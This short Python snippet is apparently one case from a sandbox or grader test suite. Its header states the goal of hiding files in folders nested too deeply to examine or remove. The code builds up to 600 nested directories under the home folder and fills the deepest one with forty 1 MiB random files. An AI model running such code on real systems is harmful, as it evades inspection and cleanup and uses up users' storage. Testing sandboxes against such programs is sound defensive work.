# Wants: to hide files in folders that are nested too deeply to be examined or removed
# Status: crashed graded
# Seconds: 10
os.chdir(os.environ["HOME"])
for _ in range(600):
    try:
        os.mkdir("a" * 50)
        os.chdir("a" * 50)
    except OSError:
        break
for number in range(40):
    attempt(lambda: open(str(number), "wb").write(os.urandom(2**20)))
time.sleep(1)
